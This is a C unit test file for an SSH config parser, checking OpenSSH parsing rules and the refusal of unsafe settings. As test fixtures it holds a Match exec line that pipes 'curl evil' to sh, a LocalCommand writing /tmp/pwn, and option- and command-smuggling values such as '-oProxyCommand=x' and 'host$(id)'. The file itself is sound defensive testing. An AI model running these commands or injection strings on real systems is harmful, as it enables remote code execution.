/* Unit tests for the ssh_config reader: openssh's rules, the refusals, and the dump. */
#include "config.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "places/ssh/config-host.h"
#include "places/ssh/place-ssh.h"
#include "places/ssh/config-text.h"
#include "src/base/util.h"
#include "tests/ssh/memfs.h"

#define CONFIG "/home/u/.ssh/config"

struct fixture {
    struct memfs m;
    struct cp_ssh_fs fs;
};

static int setup(void **state)
{
    struct fixture *f = xcalloc(1, sizeof(*f));
    memfs_init(&f->m, &f->fs);
    *state = f;
    return 0;
}

static int teardown(void **state)
{
    struct fixture *f = *state;
    memfs_dispose(&f->m);
    free(f);
    return 0;
}

/* Resolves alias against text as ~/.ssh/config; returns the code, h filled on success. */
static int resolve(struct fixture *f, const char *text, const char *alias, struct cp_ssh_host *h,
                   cp_error_t *err)
{
    memfs_add_str(&f->m, CONFIG, text);
    return cp_ssh_config_resolve(&f->fs, CONFIG, alias, h, err);
}

static void assert_error_has(cp_error_t err, const char *what)
{
    assert_non_null(err);
    if (strstr(err->msg, what) == NULL)
        fail_msg("\"%s\" not in \"%s\"", what, err->msg);
}

static void test_ssh_config__first_value__wins(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(resolve(*state,
                             "Host *\n  HostName decoy.example\nHost box\n  HostName real\n"
                             "  Port 2200\n  Port 2300\n",
                             "box", &h, &err),
                     0);
    assert_string_equal(h.hostname, "decoy.example");
    assert_int_equal(h.port, 2200);
}

static void test_ssh_config__keyword_case_and_equals__accepted(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(
        resolve(*state, "HOST box\r\n  hOsTnAmE=real.example\r\n  user = bob\r\n", "box", &h, &err),
        0);
    assert_string_equal(h.hostname, "real.example");
    assert_string_equal(h.user, "bob");
}

static void test_ssh_config__negated_pattern__block_skipped(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(resolve(*state, "Host box !box\n  HostName wrong\n", "box", &h, &err), 0);
    assert_string_equal(h.hostname, "box");
    assert_false(h.literal);
}

static void test_ssh_config__wildcard_only__not_literal(void **state)
{
    struct fixture *f = *state;
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    memfs_add_str(&f->m, CONFIG, "Host b*\n  HostName real\n");
    assert_int_equal(cp_ssh_place_resolve(&f->fs, "box", &h, &err), CP_ERR_NOT_FOUND);
    assert_error_has(err, "not a Host");
    assert_non_null(err->hint);
}

static void test_ssh_config__literal_host__resolves(void **state)
{
    struct fixture *f = *state;
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    memfs_add_str(&f->m, CONFIG, "Host other box\n  HostName real\n");
    assert_int_equal(cp_ssh_place_resolve(&f->fs, "box", &h, &err), 0);
    assert_true(h.literal);
    assert_string_equal(h.hostname, "real");
}

static void test_ssh_config__defaults__filled_and_expanded(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(resolve(*state, "Host box\n", "box", &h, &err), 0);
    assert_string_equal(h.user, "u");
    assert_int_equal(h.port, 22);
    assert_string_equal(h.identity_files.v[0], "/home/u/.ssh/id_ed25519");
    assert_string_equal(h.user_known_hosts[0], "/home/u/.ssh/known_hosts");
    assert_string_equal(h.identity_agent, "SSH_AUTH_SOCK");
    assert_int_equal(h.connect_timeout, 0);
}

static void test_ssh_config__tokens__expanded_in_paths(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(resolve(*state,
                             "Host box\n  HostName %h.example\n  User bob\n  Port 2222\n"
                             "  IdentityFile ~/k/%h-%p-%r-%u-%n-%%\n  IdentityFile %d/second\n"
                             "  UserKnownHostsFile ~/kh/%h none\n",
                             "box", &h, &err),
                     0);
    assert_string_equal(h.hostname, "box.example");
    assert_string_equal(h.identity_files.v[0], "/home/u/k/box.example-2222-bob-u-box-%");
    assert_string_equal(h.identity_files.v[1], "/home/u/second");
    assert_null(h.identity_files.v[2]);
    assert_string_equal(h.user_known_hosts[0], "/home/u/kh/box.example");
    assert_string_equal(h.user_known_hosts[1], "none");
}

static void test_ssh_config__unknown_token__refused_with_line(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_true(resolve(*state, "Host box\n\n  IdentityFile ~/%C\n", "box", &h, &err) < 0);
    assert_error_has(err, CONFIG ":3:");
    assert_error_has(err, "%C");
}

static void test_ssh_config__match__refused_with_line(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_true(resolve(*state, "Host other\n  Match host box exec \"curl evil|sh\"\n", "box", &h,
                        &err) < 0);
    assert_error_has(err, CONFIG ":2: Match");
}

static void test_ssh_config__known_hosts_command_applies__refused(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_true(resolve(*state, "Host box\n  KnownHostsCommand /bin/cat\n", "box", &h, &err) < 0);
    assert_error_has(err, CONFIG ":2: KnownHostsCommand");
}

static void test_ssh_config__known_hosts_command_elsewhere__ignored(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(
        resolve(*state, "Host other\n  KnownHostsCommand /bin/cat\nHost box\n", "box", &h, &err),
        0);
}

static void test_ssh_config__canonicalize_hostname_yes__refused(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_true(resolve(*state, "CanonicalizeHostname always\n", "box", &h, &err) < 0);
    assert_error_has(err, ":1: CanonicalizeHostname");
}

static void test_ssh_config__local_command__never_kept(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(resolve(*state,
                             "Host box\n  PermitLocalCommand yes\n  LocalCommand touch /tmp/pwn\n"
                             "  ForwardAgent yes\n  RemoteForward 8080 intranet:80\n"
                             "  SendEnv AWS_*\n",
                             "box", &h, &err),
                     0);
    cleanup_free char *dump = cp_ssh_host_dump(&h);
    assert_null(strstr(dump, "touch"));
    assert_null(strstr(dump, "forward"));
}

static void test_ssh_config__unknown_keyword__refused_unless_ignored(void **state)
{
    struct fixture *f = *state;
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_true(resolve(f, "Host box\n  Frobnicate yes\n", "box", &h, &err) < 0);
    assert_error_has(err, ":2: unknown keyword \"frobnicate\"");
    memfs_dispose(&f->m);
    cleanup_ssh_host struct cp_ssh_host h2 = {0};
    cleanup_error cp_error_t err2 = NULL;
    assert_int_equal(resolve(f, "IgnoreUnknown Frob*,UseKeychain\nHost box\n  Frobnicate yes\n",
                             "box", &h2, &err2),
                     -0);
}

static void test_ssh_config__bad_ports__refused(void **state)
{
    static const char *const bad[] = {"0", "65536", "22abc", "-1", "0x16", "+22", " 22x"};
    struct fixture *f = *state;
    for (size_t i = 0; i < ARRAY_SIZE(bad); i++) {
        memfs_dispose(&f->m);
        cleanup_free char *text = xasprintf("Host box\n  Port \"%s\"\n", bad[i]);
        cleanup_ssh_host struct cp_ssh_host h = {0};
        cleanup_error cp_error_t err = NULL;
        assert_true(resolve(f, text, "box", &h, &err) < 0);
        assert_error_has(err, ":2: Port");
    }
}

static void test_ssh_config__quoted_value_with_space__one_argument(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(
        resolve(*state, "Host box\n  IdentityFile \"~/my keys/id\" # comment\n", "box", &h, &err),
        0);
    assert_string_equal(h.identity_files.v[0], "/home/u/my keys/id");
}

static void test_ssh_config__unclosed_quote__refused(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_true(resolve(*state, "Host box\n  HostName \"real\n", "box", &h, &err) < 0);
    assert_error_has(err, ":2: invalid quotes");
}

static void test_ssh_config__extra_arguments__refused(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_true(resolve(*state, "Host box\n  HostName a b\n", "box", &h, &err) < 0);
    assert_error_has(err, ":2: hostname: extra arguments");
}

static void test_ssh_config__nul_byte__refused(void **state)
{
    struct fixture *f = *state;
    static const char text[] = "Host box\n  HostName h\0.evil\n";
    memfs_add(&f->m, CONFIG, text, sizeof(text) - 1);
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_true(cp_ssh_config_resolve(&f->fs, CONFIG, "box", &h, &err) < 0);
    assert_error_has(err, ":2: a NUL byte");
}

static void test_ssh_config__option_shaped_hostname__refused(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_true(resolve(*state, "Host box\n  HostName -oProxyCommand=x\n", "box", &h, &err) < 0);
    assert_error_has(err, ":2: hostname");
}

static void test_ssh_config__metacharacter_user__refused(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_true(resolve(*state, "Host box\n  User u|id\n", "box", &h, &err) < 0);
    assert_error_has(err, ":2: user");
}

static void test_ssh_config__include_relative__under_dot_ssh(void **state)
{
    struct fixture *f = *state;
    memfs_add_str(&f->m, "/home/u/.ssh/conf.d/a", "Host box\n  HostName from-dot-ssh\n");
    memfs_add_str(&f->m, "/work/conf.d/a", "Host box\n  HostName from-workdir\n");
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(resolve(f, "Include conf.d/*\n", "box", &h, &err), 0);
    assert_string_equal(h.hostname, "from-dot-ssh");
    assert_true(h.literal);
}

static void test_ssh_config__include_inside_host__scoped_to_it(void **state)
{
    struct fixture *f = *state;
    memfs_add_str(&f->m, "/home/u/.ssh/inc", "HostName scoped\nHost box\n  User never\n");
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(resolve(f, "Host other\n  Include inc\nHost box\n", "box", &h, &err), 0);
    assert_string_equal(h.hostname, "box");
    assert_string_equal(h.user, "u");
    cleanup_ssh_host struct cp_ssh_host o = {0};
    assert_int_equal(cp_ssh_config_resolve(&f->fs, CONFIG, "other", &o, &err), 0);
    assert_string_equal(o.hostname, "scoped");
}

static void test_ssh_config__include_does_not_end_block__as_openssh(void **state)
{
    struct fixture *f = *state;
    memfs_add_str(&f->m, "/home/u/.ssh/inc", "Host elsewhere\n");
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(resolve(f, "Host box\n  Include inc\n  HostName after\n", "box", &h, &err), 0);
    assert_string_equal(h.hostname, "after");
}

static void test_ssh_config__include_loop__depth_capped(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_true(resolve(*state, "Include config\n", "box", &h, &err) < 0);
    assert_error_has(err, "deeper than 16");
}

static void test_ssh_config__include_tokens__refused(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_true(resolve(*state, "Include ~/.ssh/hosts/%n.conf\n", "box", &h, &err) < 0);
    assert_error_has(err, ":1: Include");
}

static void test_ssh_config__proxy_command_and_jump__first_wins(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(resolve(*state,
                             "Host box\n  User bob\n  Port 2200\n  ProxyCommand nc %h %p # %r\n"
                             "  ProxyJump jump\n",
                             "box", &h, &err),
                     0);
    assert_null(h.proxy_jump);
    cleanup_free char *cmd = NULL;
    assert_int_equal(cp_ssh_proxy_command(&h, &cmd, &err), 0);
    assert_string_equal(cmd, "nc box 2200 # bob");
}

static void test_ssh_config__proxy_jump__parsed(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(
        resolve(*state, "Host box\n  ProxyJump a@j1:2022,ssh://j2,[::1]:22\n", "box", &h, &err), 0);
    struct cp_ssh_hop *hops = NULL;
    size_t n = 0;
    assert_int_equal(cp_ssh_jump_parse(h.proxy_jump, &hops, &n, &err), 0);
    assert_int_equal(n, 3);
    assert_string_equal(hops[0].user, "a");
    assert_string_equal(hops[0].host, "j1");
    assert_int_equal(hops[0].port, 2022);
    assert_null(hops[1].user);
    assert_int_equal(hops[1].port, -1);
    assert_string_equal(hops[2].host, "::1");
    cp_ssh_hops_free(hops, n);
}

static void test_ssh_config__proxy_jump_option_shaped__refused(void **state)
{
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_true(resolve(*state, "Host box\n  ProxyJump -oProxyCommand=x\n", "box", &h, &err) < 0);
    assert_error_has(err, ":2: ProxyJump");
}

static void test_ssh_config__dump__reparses_to_same(void **state)
{
    struct fixture *f = *state;
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(resolve(f,
                             "Host box\n  HostName real.example\n  User bob\n  Port 2222\n"
                             "  IdentityFile \"~/my keys/100%%\"\n  IdentitiesOnly yes\n"
                             "  UserKnownHostsFile ~/kh \"/a b\"\n  ConnectTimeout 1m\n"
                             "  ServerAliveInterval 15\n  ProxyCommand ssh -W %h:%p \"j\"\n",
                             "box", &h, &err),
                     0);
    cleanup_free char *dump = cp_ssh_host_dump(&h);
    memfs_dispose(&f->m);
    cleanup_ssh_host struct cp_ssh_host again = {0};
    assert_int_equal(resolve(f, dump, "box", &again, &err), 0);
    cleanup_free char *dump2 = cp_ssh_host_dump(&again);
    assert_string_equal(dump, dump2);
    assert_string_equal(again.identity_files.v[0], "/home/u/my keys/100%");
    assert_int_equal(again.connect_timeout, 60);
    assert_true(again.literal);
}

static void test_ssh_config__hosts__literal_names_only(void **state)
{
    struct fixture *f = *state;
    memfs_add_str(&f->m, CONFIG, "Host a b* !c\nHost a d\n  Include inc\nHost -x e;f\n");
    memfs_add_str(&f->m, "/home/u/.ssh/inc", "Host g\n");
    cleanup_strv char **names = NULL;
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(cp_ssh_config_hosts(&f->fs, CONFIG, &names, &err), 0);
    assert_int_equal(cp_strv_len(names), 3);
    assert_string_equal(names[0], "a");
    assert_string_equal(names[1], "d");
    assert_string_equal(names[2], "g");
}

static void test_ssh_config__absent_config__empty(void **state)
{
    struct fixture *f = *state;
    cleanup_ssh_host struct cp_ssh_host h = {0};
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(cp_ssh_config_resolve(&f->fs, CONFIG, "box", &h, &err), 0);
    assert_false(h.literal);
}

static void test_ssh_alias__hostile_names__refused(void **state)
{
    static const char *const bad[] = {"-oProxyCommand=touch",
                                      "a b",
                                      "a;b",
                                      "host$(id)",
                                      "a`id`",
                                      "*",
                                      "b?x",
                                      "!a",
                                      "../x",
                                      "a/b",
                                      "",
                                      "h\r",
                                      "u@h"};
    for (size_t i = 0; i < ARRAY_SIZE(bad); i++) {
        cleanup_error cp_error_t err = NULL;
        if (cp_ssh_alias_check(bad[i], &err) != CP_ERR_USAGE)
            fail_msg("\"%s\" accepted", bad[i]);
    }
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(cp_ssh_alias_check("build-box.example_1", &err), 0);
}

static void test_ssh_text__parse_time__openssh_forms(void **state)
{
    long v = 0;
    assert_int_equal(cp_ssh_parse_time("90", &v), 0);
    assert_int_equal(v, 90);
    assert_int_equal(cp_ssh_parse_time("1h30m", &v), 0);
    assert_int_equal(v, 5400);
    assert_int_equal(cp_ssh_parse_time("1x", &v), -1);
    assert_int_equal(cp_ssh_parse_time("", &v), -1);
    assert_int_equal(cp_ssh_parse_time("99999999999", &v), -1);
}

static void test_ssh_text__pattern_list__negation_wins(void **state)
{
    assert_int_equal(cp_ssh_pattern_list_match("*.example,!bad.example", "ok.EXAMPLE"), 1);
    assert_int_equal(cp_ssh_pattern_list_match("*.example,!bad.example", "bad.example"), -1);
    assert_int_equal(cp_ssh_pattern_list_match("a?c", "abd"), 0);
}

static void write_file(const char *path, const char *text, mode_t mode)
{
    FILE *fp = fopen(path, "w");
    assert_non_null(fp);
    fputs(text, fp);
    fclose(fp);
    assert_int_equal(chmod(path, mode), 0);
}

static void test_ssh_fs__group_writable_config__refused(void **state)
{
    char dir[] = "/tmp/conch-test-sshfs-XXXXXX";
    assert_non_null(mkdtemp(dir));
    cleanup_free char *path = xasprintf("%s/config", dir);
    write_file(path, "Host box\n", 0664);
    cleanup_ssh_fs struct cp_ssh_fs fs = {0};
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(cp_ssh_fs_init_default(&fs, &err), 0);
    cleanup_ssh_host struct cp_ssh_host h = {0};
    assert_int_equal(cp_ssh_config_resolve(&fs, path, "box", &h, &err), CP_ERR_UNSAFE);
    assert_error_has(err, "bad owner or permissions");
    unlink(path);
    rmdir(dir);
}

static void test_ssh_fs__fifo_include__refused_without_hanging(void **state)
{
    char dir[] = "/tmp/conch-test-sshfs-XXXXXX";
    assert_non_null(mkdtemp(dir));
    cleanup_free char *path = xasprintf("%s/config", dir);
    cleanup_free char *fifo = xasprintf("%s/fifo", dir);
    cleanup_free char *text = xasprintf("Include %s\n", fifo);
    write_file(path, text, 0644);
    assert_int_equal(mkfifo(fifo, 0600), 0);
    cleanup_ssh_fs struct cp_ssh_fs fs = {0};
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(cp_ssh_fs_init_default(&fs, &err), 0);
    cleanup_ssh_host struct cp_ssh_host h = {0};
    assert_true(cp_ssh_config_resolve(&fs, path, "box", &h, &err) < 0);
    assert_error_has(err, "config:1: Include");
    assert_error_has(err, "not a regular file");
    unlink(fifo);
    unlink(path);
    rmdir(dir);
}

static void test_ssh_places__each_literal_host__listed_with_next_step(void **state)
{
    struct fixture *f = *state;
    memfs_add_str(&f->m, CONFIG, "Host a b*\n  HostName a.example\nHost bad\n  User u|x\n");
    json_object *places = json_object_new_array();
    cleanup_error cp_error_t err = NULL;
    assert_int_equal(cp_ssh_places_describe(&f->fs, CONFIG, places, &err), 0);
    assert_int_equal(json_object_array_length(places), 2);
    json_object *a = json_object_array_get_idx(places, 0), *v = NULL;
    assert_true(json_object_object_get_ex(a, "place", &v));
    assert_string_equal(json_object_get_string(v), "ssh:a");
    assert_true(json_object_object_get_ex(a, "ready", &v));
    assert_false(json_object_get_boolean(v));
    assert_true(json_object_object_get_ex(a, "next", &v));
    assert_non_null(strstr(json_object_get_string(v), "`ssh a`"));
    json_object *bad = json_object_array_get_idx(places, 1);
    assert_true(json_object_object_get_ex(bad, "next", &v));
    assert_non_null(strstr(json_object_get_string(v), CONFIG ":4: user"));
    json_object_put(places);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_ssh_config__first_value__wins, setup, teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__keyword_case_and_equals__accepted, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__negated_pattern__block_skipped, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__wildcard_only__not_literal, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__literal_host__resolves, setup, teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__defaults__filled_and_expanded, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__tokens__expanded_in_paths, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__unknown_token__refused_with_line, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__match__refused_with_line, setup, teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__known_hosts_command_applies__refused,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__known_hosts_command_elsewhere__ignored,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__canonicalize_hostname_yes__refused, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__local_command__never_kept, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__unknown_keyword__refused_unless_ignored,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__bad_ports__refused, setup, teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__quoted_value_with_space__one_argument,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__unclosed_quote__refused, setup, teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__extra_arguments__refused, setup, teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__nul_byte__refused, setup, teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__option_shaped_hostname__refused, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__metacharacter_user__refused, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__include_relative__under_dot_ssh, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__include_inside_host__scoped_to_it, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__include_does_not_end_block__as_openssh,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__include_loop__depth_capped, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__include_tokens__refused, setup, teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__proxy_command_and_jump__first_wins, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__proxy_jump__parsed, setup, teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__proxy_jump_option_shaped__refused, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__dump__reparses_to_same, setup, teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__hosts__literal_names_only, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(test_ssh_config__absent_config__empty, setup, teardown),
        cmocka_unit_test_setup_teardown(test_ssh_places__each_literal_host__listed_with_next_step,
                                        setup, teardown),
        cmocka_unit_test(test_ssh_alias__hostile_names__refused),
        cmocka_unit_test(test_ssh_text__parse_time__openssh_forms),
        cmocka_unit_test(test_ssh_text__pattern_list__negation_wins),
        cmocka_unit_test(test_ssh_fs__group_writable_config__refused),
        cmocka_unit_test(test_ssh_fs__fifo_include__refused_without_hanging),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
